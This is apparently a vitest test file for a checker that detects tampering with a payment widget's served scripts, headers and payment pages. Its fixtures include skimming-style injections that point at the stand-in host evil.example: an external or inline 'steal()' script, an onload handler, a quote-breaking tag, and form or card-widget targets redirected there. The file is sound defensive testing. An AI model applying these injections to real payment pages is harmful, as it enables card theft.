import zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { WidgetFile } from '../routes/widget.ts';
import { jsonOf, useCompanion } from '../testing/companion.ts';
import { type Checked, findChanges } from './served-scripts.ts';

const BASE = 'https://pay.shop.example/pay';
const BODY = new TextEncoder().encode('export {}');
/** An empty frame of zstd. */
const ZSTD_FRAME = new Uint8Array([0x28, 0xb5, 0x2f, 0xfd, 0x20, 0x00, 0x01, 0x00, 0x00]);
const FILES: WidgetFile[] = ['pay-form.js', 'frame.js'].map((name) => ({
  name,
  body: BODY,
  brotli: BODY,
  hash: '0123456789abcdef',
}));

describe('what browsers get', () => {
  const companion = useCompanion();

  /** The findings if an intermediary changes an answer. */
  const foundWith = (
    change: (answer: Response, request: Request) => Response | Promise<Response>,
    over: Partial<Checked> = {},
  ) =>
    findChanges(
      async (address, init) => {
        const request = new Request(address, init);
        const answer = await companion.app.fetch(request);
        // As clients decode it.
        const isCompressed = answer.headers.has('content-encoding');
        return change(isCompressed ? new Response(BODY, answer) : answer, request);
      },
      { files: FILES, base: BASE, ...over },
    );
  const at = (path: string, change: (answer: Response) => Response) =>
    foundWith((answer, { url }) => (url.endsWith(path) ? change(answer) : answer));

  /** The link of an order that can be paid. */
  async function payable(over: object = {}): Promise<string> {
    const order = { id: 'A-1001', amount: '24.50', currency: 'EUR', description: 'Clay mug', ...over };
    return (await jsonOf<{ url: string }>(companion.merchant('/orders', { body: order }))).url;
  }
  /** The findings if only payment pages are changed. */
  async function foundOnPage(change: (html: string, headers: Headers) => string, over: object = {}) {
    const paymentPage = await payable(over);
    return foundWith(
      async (answer, { url }) => {
        if (url !== paymentPage) return answer;
        const headers = new Headers(answer.headers);
        return new Response(change(await answer.text(), headers), { headers });
      },
      { paymentPage },
    );
  }

  const SENDS_NOT = 'which pay-form does not send';
  const NOT_OURS = 'which is not in this release';
  const CHANGED = 'is missing or changed';
  it.each<[path: string, header: string, value: string, fault: string]>([
    ['frame', 'refresh', '0; url=https://evil.example', SENDS_NOT],
    ['frame', 'set-cookie', 'a=1', SENDS_NOT],
    ['frame', 'x-content-type-options', '', CHANGED],
    ['frame', 'permissions-policy', 'camera=*', CHANGED],
    ['order/none', 'content-security-policy', "default-src 'none'; script-src *", CHANGED],
    ['order/none', 'x-frame-options', 'SAMEORIGIN', CHANGED],
    ['order/none', 'link', '<https://evil.example/a.js>; rel=preload; as=script', SENDS_NOT],
  ])('is not this release where %s has a header %s: %j', async (path, name, value, fault) => {
    const { changes } = await at(`/${path}`, (answer) => {
      answer.headers.set(name, value);
      return answer;
    });
    expect(changes).toEqual([expect.stringMatching(`^${path}: header ${name},? ${fault}$`)]);
  });

  it.each([
    ['accept-encoding', /^gzip, deflate, br, zstd$/],
    ['accept-encoding', /^identity$/],
    ['sec-fetch-dest', /^script$/],
    ['user-agent', /^Mozilla/],
  ])('is not this release where only requests with %s %s get another script', async (name, value) => {
    const { changes } = await foundWith((answer, { url, headers }) =>
      url.endsWith('/pay-form.js') && value.test(headers.get(name) ?? '')
        ? new Response('alert()', answer)
        : answer,
    );
    expect(changes).toEqual(['pay-form.js: differs from this release']);
  });

  it('may have its headers written in another way', async () => {
    const { changes } = await at('/frame', (answer) => {
      answer.headers.set('content-type', 'text/html;charset=UTF-8');
      return answer;
    });
    expect(changes).toEqual([]);
  });

  it.each(['https://pay.shop.example https:', 'https://*.example', "'self'", 'https://shop.example'])(
    'is not this release where %j may hold the frame',
    async (pages) => {
      const { changes } = await at('/frame', (answer) => {
        const policy = answer.headers.get('content-security-policy') ?? '';
        answer.headers.set(
          'content-security-policy',
          policy.replace(/frame-ancestors [^;]*/, `frame-ancestors ${pages}`),
        );
        return answer;
      });
      expect(changes).toEqual([
        `frame: the pages that may embed it must be single origins, with its own: ${pages}`,
      ]);
    },
  );

  it.each<[path: string, body: string, status: number, change: string]>([
    ['frame', '<script>', 200, 'differs from this release'],
    ['pay-form.js?v=0123456789abcdef', 'steal()', 200, 'differs from this release'],
    ['pay-form.js', '', 302, 'HTTP 302'],
    ['order/none', 'steal()', 200, 'HTTP 200'],
    [
      'order/none',
      '<script src="https://evil.example/a.js"></script>',
      404,
      `has <script src="https://evil.example/a.js">, ${NOT_OURS}`,
    ],
    [
      'order/none',
      '<meta http-equiv="refresh" content="0">',
      404,
      `has <meta http-equiv="refresh" content="0">, ${NOT_OURS}`,
    ],
    ['order/none', '<body onload="steal()">', 404, `has onload=, ${NOT_OURS}`],
  ])('is not this release where %s is %j (HTTP %i)', async (path, body, status, change) => {
    const { changes } = await at(`/${path}`, ({ headers }) => new Response(body, { status, headers }));
    expect(changes).toEqual([`${path}: ${change}`]);
  });

  it('is not this release where another page than those of ALLOWED_ORIGINS may hold the frame', async () => {
    const answered = (allowedOrigins: string) => foundWith((answer) => answer, { allowedOrigins });
    expect((await answered('https://shop.example')).changes).toEqual([]);
    const { changes } = await foundWith(
      (answer, { url }) => {
        const policy = answer.headers.get('content-security-policy') ?? '';
        const more = policy.replace('frame-ancestors', '$& https://evil.example');
        if (url.endsWith('/frame')) answer.headers.set('content-security-policy', more);
        return answer;
      },
      { allowedOrigins: 'https://shop.example' },
    );
    expect(changes).toEqual(['frame: https://evil.example may embed it, but is not in ALLOWED_ORIGINS']);
    expect((await answered('https://new.example')).changes).toEqual([
      'frame: https://shop.example may embed it, but is not in ALLOWED_ORIGINS',
      'frame: https://new.example of ALLOWED_ORIGINS may not embed it',
    ]);
  });

  it('is unreadable where it is in an encoding that this Node does not know', async () => {
    const { changes } = await at('/pay-form.js', (answer) => new Response(ZSTD_FRAME, answer));
    expect(changes).toEqual([
      'zstdDecompressSync' in zlib
        ? 'pay-form.js: differs from this release'
        : 'pay-form.js: is in zstd, which only Node 22.15 and newer read',
    ]);
  });

  describe('on a payment page', () => {
    it.each<[what: string, order: object]>([
      ['', {}],
      ['in the order’s language', { lang: 'UK' }],
      ['of a merchant with a logo', { merchant: { name: 'Mugs', logoUrl: 'https://cdn.example/logo.svg' } }],
      ['with the gateway’s page only', { modes: ['hosted'] }],
    ])('is this release as the companion sends it %s', async (_, order) => {
      expect((await foundOnPage((html) => html, order)).changes).toEqual([]);
    });

    it.each<[what: string, change: (html: string) => string, change: string[]]>([
      [
        'has a script of somebody else',
        (html) => html.replace('</head>', '<script src="https://evil.example/a.js"></script></head>'),
        [`has <script src="https://evil.example/a.js">, ${NOT_OURS}`],
      ],
      [
        'has an inline script',
        (html) => html.replace('</body>', '<script>steal()</script></body>'),
        [`has <script>, ${NOT_OURS}`],
      ],
      [
        'hides a script in a tag that looks quoted',
        (html) => html.replace('<main>', '<main "><script>steal()</script>">'),
        [`has <script>, ${NOT_OURS}`],
      ],
      [
        'has an inline handler',
        (html) => html.replace('<body>', '<body onload="steal()">'),
        [`has onload=, ${NOT_OURS}`],
      ],
      [
        'sends the card to another companion',
        (html) => html.replace(`<pay-form src="${BASE}"`, '<pay-form src="https://evil.example/pay"'),
        [`has <pay-form src="https://evil.example/pay">, ${NOT_OURS}`, `lacks <pay-form src="${BASE}">`],
      ],
      [
        'sends the plain form elsewhere',
        (html) => html.replace(`action="${BASE}/hosted"`, 'action="https://evil.example"'),
        [`has <form method="post" action="https://evil.example">, ${NOT_OURS}`],
      ],
    ])('is not this release where it %s', async (_, change, faults) => {
      const { changes } = await foundOnPage(change);
      expect(changes).toEqual(faults.map((fault) => `payment page: ${fault}`));
    });

    it.each<[name: string, value: string]>([
      ['content-security-policy', ''],
      ['content-security-policy', "default-src 'none'; script-src *"],
      ['x-frame-options', ''],
      ['cross-origin-opener-policy', 'unsafe-none'],
      ['referrer-policy', 'unsafe-url'],
    ])('is not this release where its header %s is %j', async (name, value) => {
      const { changes } = await foundOnPage((html, headers) => {
        if (value) headers.set(name, value);
        else headers.delete(name);
        return html;
      });
      expect(changes).toEqual([`payment page: header ${name} is missing or changed`]);
    });

    it.each(['frame-ancestors', 'script-src', 'img-src'])(
      'is not this release where its policy allows more: %s',
      async (directive) => {
        const { changes } = await foundOnPage((html, headers) => {
          const policy = headers.get('content-security-policy') ?? '';
          headers.set(
            'content-security-policy',
            policy.replace(new RegExp(`${directive} [^;]*`), '$& https://evil.example https://more.example'),
          );
          return html;
        });
        expect(changes).toEqual(['payment page: header content-security-policy is missing or changed']);
      },
    );

    it('cannot be seen by the link of an order that is closed', async () => {
      const paymentPage = await payable();
      await companion.merchant('/orders/A-1001/close', { body: {} });
      const { changes } = await foundWith((answer) => answer, { paymentPage });
      expect(changes).toEqual(['payment page: HTTP 410']);
    });

    it('cannot be seen where it shows no form', async () => {
      const { changes } = await foundOnPage(() => '<p>Paid</p>');
      expect(changes).toEqual([
        'payment page: shows no form: give the link of an order that can still be paid',
      ]);
    });
  });
});
